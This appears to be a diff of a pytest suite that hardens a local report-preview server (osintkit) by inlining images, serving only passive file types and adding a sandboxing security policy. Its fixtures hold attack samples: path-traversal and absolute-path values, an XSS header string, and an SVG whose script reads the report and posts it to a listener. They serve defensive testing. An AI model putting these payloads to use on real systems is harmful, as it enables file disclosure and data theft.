@@ -12,6 +12,7 @@ Every wait is a poll with a deadline that only guards against a hang; nothing as
 
 from __future__ import annotations
 
+import contextlib
 import json
 import os
 import queue
@@ -25,6 +26,7 @@ import threading
 import time
 from collections.abc import Callable, Iterator
 from dataclasses import dataclass
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from io import BytesIO
 from pathlib import Path
 from typing import Any
@@ -185,11 +187,12 @@ def test_any_other_host_header_is_refused(served: PreviewServer, headers: str) -
 
 
 @pytest.fixture
-def with_images(folder: Path) -> Path:
-    """minimal.yaml loading an image beside it, one in a subfolder, and files it must not get."""
-    (folder / "chart.png").write_bytes(b"\x89PNG chart")
+def with_images(folder: Path, make_png: Callable[..., bytes]) -> Path:
+    """minimal.yaml showing an image beside it and one in a subfolder, and files it must not
+    get: one outside the folder, symlinks to it, one the report does not show."""
+    (folder / "chart.png").write_bytes(make_png())
     (folder / "img").mkdir()
-    (folder / "img" / "map one.png").write_bytes(b"\x89PNG map")
+    (folder / "img" / "map one.png").write_bytes(make_png(colour=(0, 0, 200)))
     outside = folder.parent / "outside.png"
     outside.write_bytes(b"secret outside the brief's folder")
     (folder / "link.png").symlink_to(outside)
@@ -199,23 +202,43 @@ def with_images(folder: Path) -> Path:
         folder / "minimal.yaml",
         r"^geopolitical_context: \|\n",
         "geopolitical_context: |\n"
-        "  ![chart](chart.png) ![map](img/map%20one.png) ![up](../outside.png)\n"
-        "  ![link](link.png) ![up2](img/up.png) ![abs](/etc/hostname) ![dots](%2e%2e/outside.png)\n"
-        "  ![web](https://example.org/a.png)\n\n",
+        "  ![chart](chart.png) ![map](img/map%20one.png) ![web](https://example.org/a.png)\n\n",
     )
     return folder
 
 
-def test_the_report_s_images_are_served_from_the_brief_s_folder(with_images: Path) -> None:
+def test_the_report_s_images_are_inlined_so_none_is_served(with_images: Path) -> None:
     session = PreviewSession(with_images / "minimal.yaml")
     assert session.rebuild().ok
+    page = session.snapshot().html or ""
+    sources = re.findall(r'<img src="([^"]*)"', page)
+    assert len(sources) == 2 and all(s.startswith("data:image/png;base64,") for s in sources)
     with PreviewServer(session) as server:
-        chart = request(server.port, "/chart.png?cache=1")
-        assert (chart.status, chart.body) == (200, b"\x89PNG chart")
-        assert chart.headers["content-type"] == "image/png"
-        assert chart.headers["x-content-type-options"] == "nosniff"
-        spaced = request(server.port, "/img/map%20one.png")
-        assert (spaced.status, spaced.body) == (200, b"\x89PNG map")
+        for path in ("/chart.png", "/img/map%20one.png"):
+            assert request(server.port, path).status == 404, path
+
+
+@pytest.mark.parametrize(
+    ("image", "problem"),
+    [
+        ("../outside.png", "lies outside the brief's folder"),
+        ("link.png", "lies outside the brief's folder"),
+        ("img/up.png", "lies outside the brief's folder"),
+        ("%2e%2e/outside.png", "lies outside the brief's folder"),
+        ("/etc/hostname", "is an absolute path"),
+        ("unreferenced.png", "is not a PNG, JPEG, GIF, WebP or SVG image"),
+    ],
+)
+def test_an_image_the_report_cannot_show_is_a_located_error(
+    with_images: Path, image: str, problem: str
+) -> None:
+    brief = with_images / "minimal.yaml"
+    edit(brief, r"^  !\[chart\]\(chart.png\)", f"  ![x]({image})")
+    build = PreviewSession(brief).rebuild()
+    assert not build.ok
+    (error,) = build.errors
+    assert error.startswith(f"{located(brief, '  ![x]', 3)}: geopolitical_context: figure "), error
+    assert problem in error
 
 
 @pytest.mark.parametrize(
@@ -247,6 +270,128 @@ def test_nothing_outside_the_report_s_own_files_is_served(with_images: Path, pat
         response = request(server.port, path)
     assert response.status == 404, path
     assert b"secret" not in response.body and TITLE.encode() not in response.body
+
+
+def directives(policy: str) -> dict[str, list[str]]:
+    """A Content-Security-Policy header as {directive: [values]}."""
+    parsed: dict[str, list[str]] = {}
+    for part in policy.split(";"):
+        if part.strip():
+            name, *values = part.split()
+            parsed[name.lower()] = values
+    return parsed
+
+
+def assert_inert(response: Response) -> None:
+    """Opened as a document, ``response`` gets an opaque origin, runs no script, loads nothing
+    that could carry the report away, and is not read as anything but its Content-Type."""
+    policy = directives(response.headers["content-security-policy"])
+    assert policy["sandbox"] == [], policy  # no allow-scripts, no allow-same-origin
+    assert policy["default-src"] == ["'none'"], policy
+    assert "script-src" not in policy and "connect-src" not in policy, policy
+    assert set(policy.get("img-src", [])) <= {"'self'", "data:"}, policy
+    assert set(policy.get("style-src", [])) <= {"'unsafe-inline'"}, policy
+    assert response.headers["x-content-type-options"] == "nosniff"
+
+
+#: Files a report may load, and the Content-Type each passive one is served as.
+TYPED = {
+    "chart.png": "image/png",
+    "photo.JPG": "image/jpeg",
+    "figure.svg": "image/svg+xml",
+    "anim.gif": "image/gif",
+    "pic.webp": "image/webp",
+    "font.woff2": "font/woff2",
+    "clip.mp4": "video/mp4",
+    "page.html": None,
+    "page.htm": None,
+    "page.xhtml": None,
+    "page.shtml": None,
+    "data.xml": None,
+    "drawing.xsl": None,
+    "code.js": None,
+    "code.mjs": None,
+    "paper.pdf": None,
+    "notes.txt": None,
+    "data.json": None,
+    "archive.svgz": None,
+    "no-extension": None,
+    "chart.png.html": None,
+}
+
+
+@pytest.fixture
+def typed_files(folder: Path) -> Path:
+    """A template whose CSS loads one file of each name in TYPED, each holding a script.
+
+    Figures in Markdown are inlined into the page (and must be real images), so what the
+    preview still serves from the folder is what the template's CSS asks for.
+    """
+    for name in TYPED:
+        (folder / name).write_text(
+            "<html><script>parent.postMessage(document.body.innerHTML, '*')</script></html>",
+            encoding="utf-8",
+        )
+    template = folder / "tpl"
+    shutil.copytree(ROOT / "report_templates" / "series", template)
+    rules = "".join(f'.t{i} {{ background: url("{name}") }}\n' for i, name in enumerate(TYPED))
+    with (template / "report.css").open("a", encoding="utf-8") as css:
+        css.write(rules)
+    return folder
+
+
+@pytest.mark.parametrize(("name", "kind"), TYPED.items(), ids=list(TYPED))
+def test_only_passive_types_are_served_and_never_as_a_live_document(
+    typed_files: Path, name: str, kind: str | None
+) -> None:
+    session = PreviewSession(typed_files / "minimal.yaml", template=str(typed_files / "tpl"))
+    assert session.rebuild().ok
+    assert f"/{name}" in session.snapshot().assets  # the report loads it
+    with PreviewServer(session) as server:
+        response = request(server.port, f"/{name}")
+    if kind is None:
+        # HTML, XML, script and any type not known to be passive would be a document of the
+        # preview's origin, able to read the report: not served at all.
+        assert response.status == 404, response.headers
+        assert b"<script>" not in response.body
+    else:
+        assert response.status == 200
+        assert response.headers["content-type"] == kind
+    assert_inert(response)
+
+
+@pytest.mark.parametrize(
+    ("head", "status", "kind"),
+    [
+        ("GET /missing.png HTTP/1.0\r\nHost: {host}", 404, "text/plain; charset=utf-8"),
+        ("GET /favicon.ico HTTP/1.0\r\nHost: {host}", 204, None),
+        ("GET /__osintkit/report.pdf HTTP/1.0\r\nHost: {host}", 404, "text/plain; charset=utf-8"),
+        (
+            "HEAD /__osintkit/events HTTP/1.0\r\nHost: {host}",
+            200,
+            "text/event-stream; charset=utf-8",
+        ),
+        ("GET / HTTP/1.0\r\nHost: evil.example", 421, "text/plain; charset=utf-8"),
+        ("POST / HTTP/1.0\r\nHost: {host}", 501, "text/plain; charset=utf-8"),
+        ("GET / HTTP/1.0" + "\r\nX: <svg/onload=alert(1)>" * 101, 431, "text/plain; charset=utf-8"),
+        ("GET /" + "a" * 70_000 + " HTTP/1.0", 414, "text/plain; charset=utf-8"),
+    ],
+    ids=["404", "favicon", "no PDF", "events", "421", "501", "431", "414"],
+)
+def test_every_other_response_is_inert_too(
+    served: PreviewServer, head: str, status: int, kind: str | None
+) -> None:
+    # Errors included, and those the standard library makes itself: its HTML error page
+    # is a document of the preview's origin.
+    with socket.create_connection(("127.0.0.1", served.port), timeout=DEADLINE) as sock:
+        sock.sendall(head.format(host=served.host).encode() + b"\r\n\r\n")
+        data = sock.makefile("rb").read()
+    header_block, _, body = data.partition(b"\r\n\r\n")
+    status_line, *lines = header_block.decode("latin-1").split("\r\n")
+    headers = {k.strip().lower(): v.strip() for k, _, v in (x.partition(":") for x in lines)}
+    assert int(status_line.split()[1]) == status
+    assert headers.get("content-type") == kind
+    assert_inert(Response(status, headers, body))
 
 
 def test_only_get_and_head_are_answered(served: PreviewServer) -> None:
@@ -346,11 +491,11 @@ class Watched:
 
 
 @pytest.fixture
-def watched(folder: Path) -> Iterator[Watched]:
+def watched(folder: Path, make_png: Callable[..., bytes]) -> Iterator[Watched]:
     """minimal.yaml with a template of its own and an image, rebuilt by a watcher thread."""
     shutil.copytree(ROOT / "report_templates" / "series", folder / "report_templates" / "series")
-    (folder / "chart.png").write_bytes(b"\x89PNG chart")
-    images = r"\g<0>  ![chart](chart.png) ![map](img/map.png)\n"
+    (folder / "chart.png").write_bytes(make_png())
+    images = r"\g<0>  ![chart](chart.png)\n"
     edit(folder / "minimal.yaml", r"^geopolitical_context: \|\n", images)
     session = PreviewSession(folder / "minimal.yaml")
     assert session.rebuild().ok
@@ -386,22 +531,28 @@ def test_saving_the_brief_the_registry_or_the_template_rebuilds(
     watched.until(lambda: "edited-in-preview" in watched.page())
 
 
-def test_saving_an_image_the_report_loads_rebuilds(watched: Watched, folder: Path) -> None:
+def test_saving_an_image_the_report_loads_rebuilds(
+    watched: Watched, folder: Path, make_png: Callable[..., bytes]
+) -> None:
     chart = (folder / "chart.png").resolve()
-    chart.write_bytes(b"\x89PNG a new chart")
-    watched.until(lambda: watched.built_from(chart))
+    before = watched.page()
+    chart.write_bytes(make_png(colour=(0, 200, 0)))
+    watched.until(lambda: watched.built_from(chart) and watched.page() != before)
 
 
 def test_an_image_that_appears_later_in_a_new_folder_rebuilds(
-    watched: Watched, folder: Path
+    watched: Watched, folder: Path, make_png: Callable[..., bytes]
 ) -> None:
+    brief = folder / "minimal.yaml"
+    edit(brief, r"^  !\[chart\]\(chart.png\)$", "  ![chart](chart.png) ![map](img/map.png)")
+    watched.until(lambda: any("does not exist" in e for e in watched.session.snapshot().errors))
     image = (folder / "img" / "map.png").resolve()
     assert image in watched.session.inputs.files  # watched while missing
     (folder / "img").mkdir()
-    image.write_bytes(b"\x89PNG map")
+    image.write_bytes(make_png(colour=(0, 0, 200)))
     # The build may be set off by the new folder or by the image, whichever is seen first;
     # either way a build has then read the image as it is on disk.
-    watched.until(lambda: watched.builds and not watched.session.changed_inputs())
+    watched.until(lambda: watched.page().count('<img src="data:image/png') == 2)
     assert watched.built_from(image) or watched.built_from(image.parent)
 
 
@@ -432,6 +583,7 @@ class PreviewProcess:
         self.stdout: list[str] = []
         self.stderr: list[str] = []
         self._lines: queue.Queue[str | None] = queue.Queue()
+        self._printed = threading.Condition()
         assert self.process.stdout and self.process.stderr
         self._readers = [
             threading.Thread(target=self._read, args=(stream, stream is self.process.stdout))
@@ -444,11 +596,27 @@ class PreviewProcess:
 
     def _read(self, stream: Any, is_stdout: bool) -> None:
         for line in stream:
-            (self.stdout if is_stdout else self.stderr).append(line)
+            with self._printed:
+                (self.stdout if is_stdout else self.stderr).append(line)
+                self._printed.notify_all()
             if is_stdout:
                 self._lines.put(line)
         if is_stdout:
             self._lines.put(None)
+
+    def printed(self, pattern: str, *, stderr: bool = False) -> None:
+        """Wait until a line matching ``pattern`` has been printed.
+
+        The reload channel announces a build before the command prints it, so a test that
+        stops the command on seeing the announcement must wait for the lines it checks.
+        """
+        lines = self.stderr if stderr else self.stdout
+        deadline = time.monotonic() + DEADLINE
+        with self._printed:
+            while not any(re.search(pattern, line) for line in lines):
+                left = deadline - time.monotonic()
+                assert left > 0, f"{pattern!r} not printed: {''.join(lines)}"
+                self._printed.wait(left)
 
     def _wait_for_url(self) -> str:
         while True:
@@ -506,6 +674,7 @@ def test_the_command_serves_follows_saves_and_stops_on_ctrl_c(
         assert f"{located(brief, 'volume:', 9)}: volume: input should be a valid integer" in page
     finally:
         events.close()
+    preview.printed(re.escape(f"{located(brief, 'volume:', 9)}: volume:"), stderr=True)
     assert preview.interrupt() == 0
     stdout, stderr = "".join(preview.stdout), "".join(preview.stderr)
     assert "Traceback" not in stdout + stderr
@@ -551,8 +720,8 @@ def test_the_pdf_preview_frames_the_pdf_and_renders_it_again_on_save(
         assert "A Paginated Edit" in pdf_text()
     finally:
         events.close()
+    preview.printed(r"rebuilt minimal\.yaml \(1 page, \d+\.\d\d s\)")
     assert preview.interrupt() == 0
-    assert re.search(r"rebuilt minimal\.yaml \(1 page, \d+\.\d\d s\)", "".join(preview.stdout))
 
 
 def test_the_browser_is_opened_on_the_printed_url_unless_no_open(
@@ -682,6 +851,8 @@ def browser() -> Iterator[Browser]:
 
 OVERLAY = "document.getElementById('osintkit-preview-errors')"
 HEADING = "document.querySelector('h1.title')?.textContent"
+#: The page of Chromium's PDF viewer (the extension that shows a PDF in a frame).
+PDF_VIEWER = "chrome-extension://mhjfbmdgcfjbbpaeojofohoefgiehjai/"
 
 
 def test_the_page_follows_saves_and_shows_errors_in_an_overlay(
@@ -733,4 +904,193 @@ def test_the_scroll_position_survives_a_reload(
     browser.wait_for(f"{HEADING} === 'Minsk and Tehran: A Scrolled Brief'")
     browser.wait_for(f"document.readyState === 'complete' && scrollY === {at}")
     assert browser.send(problems=True) == []
+    assert preview.interrupt() == 0
+
+
+class Listener:
+    """A server on 127.0.0.1 that records every request it gets: where a script would send
+    what it read."""
+
+    def __init__(self) -> None:
+        self.requests: list[bytes] = []
+        self.socket = socket.create_server(("127.0.0.1", 0))
+        self.url = f"http://127.0.0.1:{self.socket.getsockname()[1]}/"
+        threading.Thread(target=self._serve, daemon=True).start()
+
+    def _serve(self) -> None:
+        with contextlib.suppress(OSError):
+            while True:
+                connection, _ = self.socket.accept()
+                with connection:
+                    connection.settimeout(DEADLINE)
+                    self.requests.append(connection.recv(1 << 20))
+                    connection.sendall(
+                        b"HTTP/1.0 204 No Content\r\nAccess-Control-Allow-Origin: *\r\n\r\n"
+                    )
+
+    def close(self) -> None:
+        self.socket.close()
+
+
+#: An SVG figure that, run as a document of the preview's origin, reads the report and sends
+#: it away. Its requests are synchronous, so they are over before its document has loaded.
+HOSTILE_SVG = """<svg xmlns="http://www.w3.org/2000/svg" width="40" height="20">
+<rect width="40" height="20" fill="teal"/>
+<script><![CDATA[
+document.documentElement.setAttribute("data-ran", "yes");
+let report = "";
+try {
+  const page = new XMLHttpRequest();
+  page.open("GET", "/", false);
+  page.send();
+  report = page.responseText;
+} catch (error) {
+  report = String(error);
+}
+const out = new XMLHttpRequest();
+out.open("POST", "LISTENER", false);
+out.send(report);
+]]></script>
+</svg>
+"""
+
+
+def test_an_svg_opened_as_a_document_runs_no_script_and_still_shows_in_the_page(
+    browser: Browser, folder: Path
+) -> None:
+    # "Open image in new tab" on a figure: the SVG is then a document at the preview's URL.
+    listener = Listener()
+    (folder / "figure.svg").write_text(HOSTILE_SVG.replace("LISTENER", listener.url), "utf-8")
+    edit(
+        folder / "minimal.yaml", r"^geopolitical_context: \|\n", r"\g<0>  ![figure](figure.svg)\n\n"
+    )
+    # The Markdown figure is inlined (sanitised); the template's CSS loads the file itself,
+    # so the preview serves it, and a reader can open it in a tab of its own.
+    template = folder / "tpl"
+    shutil.copytree(ROOT / "report_templates" / "series", template)
+    with (template / "report.css").open("a", encoding="utf-8") as css:
+        css.write('.unused { background: url("figure.svg") }\n')
+    session = PreviewSession(folder / "minimal.yaml", template=str(template))
+    assert session.rebuild().ok
+    assert "/figure.svg" in session.snapshot().assets
+    try:
+        with PreviewServer(session) as server:
+            browser.send(goto=server.url + "figure.svg")
+            assert browser.send(evaluate="document.documentElement.localName") == "svg"
+            assert (
+                browser.send(evaluate="document.documentElement.getAttribute('data-ran')") is None
+            )
+            assert listener.requests == []
+
+            browser.send(goto=server.url)
+            shown = "document.querySelector('img[src^=\"data:image/svg+xml\"]')"
+            assert browser.wait_for(f"{shown}.complete && {shown}.naturalWidth") == 40
+            assert browser.send(problems=True) == []
+    finally:
+        listener.close()
+    assert listener.requests == []
+
+
+def answer(handler: BaseHTTPRequestHandler, page: bytes) -> None:
+    """Send ``page`` for "/", and no content for anything else (the favicon)."""
+    body = page if handler.path == "/" else b""
+    handler.send_response(200 if body else 204)
+    handler.send_header("Content-Type", "text/html")
+    handler.send_header("Content-Length", str(len(body)))
+    handler.end_headers()
+    handler.wfile.write(body)
+
+
+class HeldChannel(ThreadingHTTPServer):
+    """A page whose EventSource request is held open, as a preview's reload channel is; the
+    ``closed`` event is set when the browser drops that request."""
+
+    daemon_threads = True
+
+    def __init__(self) -> None:
+        super().__init__(("127.0.0.1", 0), _HeldChannelHandler)
+        self.url = f"http://127.0.0.1:{self.server_address[1]}/"
+        self.connected = threading.Event()
+        self.closed = threading.Event()
+        threading.Thread(target=self.serve_forever, daemon=True).start()
+
+
+class _HeldChannelHandler(BaseHTTPRequestHandler):
+    server: HeldChannel
+
+    def log_message(self, format: str, *args: Any) -> None:
+        pass
+
+    def do_GET(self) -> None:
+        if self.path == "/events":
+            self.server.connected.set()
+            self.rfile.read(1)  # no answer: only the browser ends this request
+            self.server.closed.set()
+            return
+        answer(
+            self, b"<!DOCTYPE html><title>held</title><script>new EventSource('/events')</script>"
+        )
+
+
+class NextPage(ThreadingHTTPServer):
+    """A page that answers only once ``held`` has been dropped (or after DEADLINE), and says
+    in its title which it was."""
+
+    daemon_threads = True
+
+    def __init__(self, held: HeldChannel) -> None:
+        super().__init__(("127.0.0.1", 0), _NextPageHandler)
+        self.url = f"http://127.0.0.1:{self.server_address[1]}/"
+        self.held = held
+        threading.Thread(target=self.serve_forever, daemon=True).start()
+
+
+class _NextPageHandler(BaseHTTPRequestHandler):
+    server: NextPage
+
+    def log_message(self, format: str, *args: Any) -> None:
+        pass
+
+    def do_GET(self) -> None:
+        dropped = self.server.held.closed.wait(DEADLINE)
+        title = "the last page was closed first" if dropped else "the last page was still open"
+        answer(self, f"<!DOCTYPE html><title>{title}</title>".encode())
+
+
+def test_a_page_is_closed_before_the_next_one_is_opened(browser: Browser) -> None:
+    # A page left on a stopped preview keeps reconnecting to it, and each refused connection
+    # is a console error. Were it still open while the next test's page loads, those errors
+    # would count as that page's problems (the flake of test_the_scroll_position_survives_a_
+    # reload, with net::ERR_CONNECTION_REFUSED in its console).
+    held = HeldChannel()
+    following = NextPage(held)
+    try:
+        browser.send(goto=held.url)
+        assert held.connected.wait(DEADLINE)
+        browser.send(goto=following.url)
+        assert browser.send(evaluate="document.title") == "the last page was closed first"
+        assert browser.send(problems=True) == []
+    finally:
+        for server in (held, following):
+            server.shutdown()
+            server.server_close()
+
+
+def test_the_pdf_is_shown_in_the_browser_s_viewer_under_its_policy(
+    browser: Browser, folder: Path, previews: list[PreviewProcess]
+) -> None:
+    # In a subprocess: a session rendering PDFs here would fork its render child from this
+    # process, and the child would hold the browser driver's stdin open.
+    preview = PreviewProcess(str(folder / "minimal.yaml"), "--no-open", "--pdf")
+    previews.append(preview)
+    pdf = request(preview.port, "/__osintkit/report.pdf")
+    assert pdf.headers["content-type"] == "application/pdf"
+    assert_inert(pdf)
+    for url in (preview.url, preview.url + "__osintkit/report.pdf"):
+        browser.send(goto=url)
+        # Chromium's viewer is an extension page in a frame of its own, there only if the PDF
+        # was let into the frame and shown: framed by the preview's page, or in a tab.
+        frames = browser.send(waitForFrame=PDF_VIEWER, timeout=DEADLINE * 1000)
+        assert frames[0] == url
+        assert browser.send(problems=True) == []
     assert preview.interrupt() == 0
